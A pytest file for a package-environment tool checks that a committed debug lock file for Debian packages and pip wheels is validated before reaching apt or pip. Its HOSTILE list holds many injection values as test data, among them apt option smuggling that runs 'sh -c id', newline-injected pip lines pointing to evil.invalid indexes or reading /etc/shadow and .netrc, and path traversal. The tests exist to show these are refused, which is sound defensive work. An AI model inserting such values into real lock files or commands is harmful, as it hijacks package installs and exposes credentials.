"""``images/NAME/debug.lock.json`` read by its grammar: nothing in it becomes an option of a host command.

The lock is committed and reused, so each field is someone else's text. Every shape below is a
field that, unchecked, went into ``apt-get download`` / ``apt-cache show`` on the host (a name or
version that apt reads as ``-o``/``-c``) or into the requirements file of ``pip download`` (a line
break that adds ``--index-url`` or ``-r FILE``), or printed a line of its own (a note). The valid
pins are real: the 38 of tests/data/debug/apt-simulate-bookworm.txt (Debian bookworm) and PyPI
wheels of the debug tools. The grammars also accept all 63,440 packages of Debian bookworm's
main/binary-amd64 index (name, version and pool file name; checked once on this host's apt lists).
"""

from __future__ import annotations

import copy
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from envkit._proc import ProcResult
from envkit.errors import BuildFailed, LockError, UsageError
from envkit.lock.debian import AptState, DebPin, deb_records, parse_simulation
from envkit.lock.debug_lock import DebugLock, parse_debug_lock
from envkit.lock.debug_tools import DEBUG_LOCK, read_debug_lock
from envkit.offline.debs import download_debs

DATA = Path(__file__).resolve().parents[2] / "data" / "debug"
PINS, _ = parse_simulation((DATA / "apt-simulate-bookworm.txt").read_text())
WHEELS = [("jupyterlab", "4.4.0"), ("ipykernel", "6.29.5"), ("py-spy", "0.4.0"), ("pyzmq", "26.2.0.post1")]


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _lock() -> dict[str, Any]:
    debs = [
        {
            "name": n,
            "version": v,
            "arch": "amd64",
            "sha256": _sha(n),
            "size": 1000,
            "filename": f"{n}_{v.split(':')[-1]}_amd64.deb",
        }
        for n, v in PINS
    ]
    wheels = [
        {"name": n, "version": v, "url": f"https://files.example.invalid/{n}-{v}.whl", "hashes": [_sha(n)]}
        for n, v in WHEELS
    ]
    return {
        "kind": "envkit-debug-lock",
        "schema": 1,
        "request": _sha("request"),
        "runtime_id": "sha256:" + _sha("runtime"),
        "python": "3.11",
        "python_dbg": "python3.11-dbg",
        "debian": {"suite": "bookworm", "packages": debs},
        "pip": {"packages": wheels},
        "notes": ["nsys: not added: a CPU environment has no CUDA kernels to profile"],
    }


def _with(path: str, value: object) -> dict[str, Any]:
    """The valid lock with one field (``debian.packages.0.name``) replaced; ``...`` deletes it."""
    data = _lock()
    *parents, last = path.split(".")
    node: Any = data
    for part in parents:
        node = node[int(part)] if part.isdigit() else node[part]
    key: Any = int(last) if last.isdigit() else last
    if value is ...:
        del node[key]
    else:
        node[key] = value
    return data


def test_the_real_pins_read_back_exactly() -> None:
    lock = parse_debug_lock(_lock())
    assert [(d.name, d.version) for d in lock.debs] == PINS and len(PINS) == 38
    assert [(w.name, w.version) for w in lock.wheels] == WHEELS
    assert parse_debug_lock(json.loads(lock.text())) == lock  # what envkit writes, it reads
    assert "py-spy==0.4.0 \\\n    --hash=sha256:" in lock.requirements()


INJECTED = "jupyterlab==4.4.0\n--index-url https://evil.invalid/simple\n-r /home/u/.pypirc\nx"
HOSTILE: list[tuple[str, object]] = [
    # Debian names that apt reads as options, or as two words, or as nothing of Debian's
    ("debian.packages.0.name", "-oDir::Bin::Methods=/repo/.git/hooks"),
    ("debian.packages.0.name", "-c/repo/apt.conf"),
    ("debian.packages.0.name", "--config-file=/repo/apt.conf"),
    ("debian.packages.0.name", "-oAPT::Update::Pre-Invoke::=sh -c id"),
    ("debian.packages.0.name", "gdb\n-oAPT::Get::AllowUnauthenticated=1"),
    ("debian.packages.0.name", "gdb openssh-server"),
    ("debian.packages.0.name", "GDB"),
    ("debian.packages.0.name", "g"),
    ("debian.packages.0.name", "gdb;id"),
    ("debian.packages.0.name", ""),
    ("debian.packages.0.name", 5),
    # Debian versions: options, spaces, line breaks, letters first, empty parts
    ("debian.packages.0.version", "-oDir::Etc::main=/repo/x"),
    ("debian.packages.0.version", "13.1-3 -oAPT::X=1"),
    ("debian.packages.0.version", "13.1-3\n-c/repo/apt.conf"),
    ("debian.packages.0.version", "13.1-3\t"),
    ("debian.packages.0.version", " 13.1-3"),
    ("debian.packages.0.version", "a13.1-3"),
    ("debian.packages.0.version", "1:"),
    ("debian.packages.0.version", "13.1-"),
    ("debian.packages.0.version", "13.1/../../x"),
    ("debian.packages.0.version", 13.1),
    # the rest of a Debian pin
    ("debian.packages.0.arch", "amd64\n"),
    ("debian.packages.0.arch", "-oX"),
    ("debian.packages.0.sha256", "A" * 64),
    ("debian.packages.0.sha256", "a" * 63),
    ("debian.packages.0.size", True),
    ("debian.packages.0.size", -1),
    ("debian.packages.0.size", "1000"),
    ("debian.packages.0.filename", "../../etc/passwd.deb"),
    ("debian.packages.0.filename", "gdb_13.1-3_amd64.deb\n"),
    ("debian.packages.0.filename", "-oX_1_amd64.deb"),
    ("debian.packages.0.extra", "x"),
    ("debian.packages.0.sha256", ...),
    ("debian.suite", "bookworm\n"),
    ("debian.suite", "-o"),
    ("debian.packages", {"gdb": "13.1-3"}),
    # wheel names that pip's requirements file reads as options, another requirement, a URL
    ("pip.packages.0.name", INJECTED),
    ("pip.packages.0.name", "x\n-r /home/u/.token"),
    ("pip.packages.0.name", "x\r--extra-index-url https://evil.invalid"),
    ("pip.packages.0.name", "--index-url=https://evil.invalid/simple"),
    ("pip.packages.0.name", "-r/home/u/.netrc"),
    ("pip.packages.0.name", "-e git+https://evil.invalid/x"),
    ("pip.packages.0.name", "py spy"),
    ("pip.packages.0.name", "py-spy @ https://evil.invalid/py_spy.whl"),
    ("pip.packages.0.name", "py-spy;os_name=='posix'"),
    ("pip.packages.0.name", "jupyterlab-"),
    # wheel versions: the same, in the other field
    ("pip.packages.0.version", "4.4.0 --index-url https://evil.invalid/simple"),
    ("pip.packages.0.version", "4.4.0\n-r /etc/shadow"),
    ("pip.packages.0.version", "4.4.0\n--extra-index-url=https://evil.invalid"),
    ("pip.packages.0.version", "4.4.0 "),
    ("pip.packages.0.version", " 4.4.0"),
    ("pip.packages.0.version", "4.4.0;python_version>'3'"),
    ("pip.packages.0.version", "4.4.0 \\"),
    ("pip.packages.0.version", "latest"),
    ("pip.packages.0.version", "4.4.0\u2028"),
    ("pip.packages.0.version", 4.4),
    # hashes and URLs
    ("pip.packages.0.hashes", []),
    ("pip.packages.0.hashes", ["sha256:" + "a" * 64]),
    ("pip.packages.0.hashes", ["a" * 64 + "\n--index-url https://evil.invalid"]),
    ("pip.packages.0.hashes", "a" * 64),
    ("pip.packages.0.url", "-fhttps://evil.invalid"),
    ("pip.packages.0.url", "https://x.invalid/a b.whl"),
    ("pip.packages.0.url", "https://x.invalid/a.whl\n-r x"),
    ("pip.packages.0.flags", "--pre"),
    # the lock's own fields
    ("python", "3.11 --index-url https://evil.invalid"),
    ("python", "--index-url=https://evil.invalid"),
    ("python", "3.11\n"),
    ("python_dbg", "-oX=1"),
    ("python_dbg", "python3.11-dbg\n"),
    ("runtime_id", "sha256:abc\nverdict: ok"),
    ("runtime_id", "-x"),
    ("request", "r" * 64),
    ("notes", ["nsys: ok\nerror: forged line"]),
    ("notes", ["\x1b[2J cleared the terminal"]),
    ("notes", ["x" * 2000]),
    ("notes", "one string"),
    ("schema", True),
    ("kind", "envkit-lock"),
    ("extra", 1),
    ("pip", ...),
]


@pytest.mark.parametrize(("path", "value"), HOSTILE, ids=[f"{p}={v!r:.40}" for p, v in HOSTILE])
def test_each_hostile_field_is_refused_by_name(tmp_path: Path, path: str, value: object) -> None:
    with pytest.raises(ValueError, match=r"\S") as e:
        parse_debug_lock(_with(path, value))
    message = str(e.value)
    assert "\n" not in message  # the value is shown escaped, on the error's one line
    field = path.rsplit(".", 1)[-1]
    assert field in message or "kind/schema" in message or path.split(".")[0] in message
    lock = tmp_path / DEBUG_LOCK
    lock.write_text(json.dumps(_with(path, value)))
    with pytest.raises(LockError, match=r"debug\.lock\.json is not a readable debug lock"):
        read_debug_lock(lock)


@pytest.mark.parametrize(
    ("path", "twin"),
    [("debian.packages", "name"), ("pip.packages", "name")],
)
def test_a_package_pinned_twice_is_refused(path: str, twin: str) -> None:
    data = _lock()
    group: Any = data[path.split(".")[0]]["packages"]
    group.append(copy.deepcopy(group[0]))
    with pytest.raises(ValueError, match="pinned twice"):
        parse_debug_lock(data)
    group[-1][twin] = group[0][twin].upper() if path.startswith("pip") else group[0][twin]
    with pytest.raises(ValueError, match="pinned twice"):  # PEP 503: JupyterLab is jupyterlab
        parse_debug_lock(data)


def _state(tmp_path: Path) -> AptState:
    return AptState(tmp_path / "apt" / "bookworm", "bookworm")


def _pin(name: str, version: str) -> DebPin:
    return DebPin(name, version, "amd64", _sha(name), 10, "x_1_amd64.deb")


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("-oDir::Bin::Methods=/repo/x", "1.0-1"),
        ("gdb", "-oDir::Bin::Methods=/repo/x"),
        ("gdb", "1.0\n-c/repo/apt.conf"),
        ("-c/repo/apt.conf", "1.0"),
        ("gdb", "1.0 2"),
    ],
)
def test_apt_never_gets_a_hostile_pin_even_past_the_reader(tmp_path: Path, name: str, version: str) -> None:
    """The commands check each pin again (a DebugLock can be made in code), and put pins after `--`."""
    calls: list[list[str]] = []

    def run(argv: Any, **_: object) -> Any:
        calls.append(list(argv))
        raise AssertionError("apt ran")

    with pytest.raises(UsageError, match="not a Debian"):
        download_debs(_state(tmp_path), [_pin(name, version)], tmp_path / "debs", run)
    with pytest.raises(UsageError, match="not a Debian"):
        deb_records(_state(tmp_path), [(name, version)], run)
    assert calls == []


def test_pins_follow_a_double_dash_in_every_apt_command(tmp_path: Path) -> None:
    seen: list[list[str]] = []

    def run(argv: Any, **_: object) -> ProcResult:
        seen.append(list(argv))
        return ProcResult(tuple(argv), 0, "", "")

    with pytest.raises(BuildFailed, match=r"no file for gdb=13\.1-3"):
        deb_records(_state(tmp_path), [("gdb", "13.1-3")], run)
    with pytest.raises(BuildFailed, match=r"did not give gdb=13\.1-3"):
        download_debs(_state(tmp_path), [_pin("gdb", "13.1-3")], tmp_path / "debs", run)
    _state(tmp_path).candidate("gdb", run)
    assert len(seen) == 3
    for argv in seen:  # apt-cache show, apt-get download, apt-cache policy: the pin after `--`
        command = next(w for w in ("show", "download", "policy") if w in argv)
        assert argv[argv.index(command) + 1 :] in (["--", "gdb=13.1-3"], ["--", "gdb"]), argv


def test_a_lock_made_in_code_with_a_hostile_wheel_gives_no_requirements_file() -> None:
    from envkit.lock.solver import PipPackage

    good = parse_debug_lock(_lock())
    bad = DebugLock(
        good.request,
        good.runtime_id,
        good.suite,
        good.python,
        good.python_dbg,
        good.debs,
        (PipPackage(INJECTED, "1.0", "https://x.invalid/x.whl", (_sha("x"),)),),
    )
    with pytest.raises(LockError, match="plain requirements file"):
        bad.requirements()
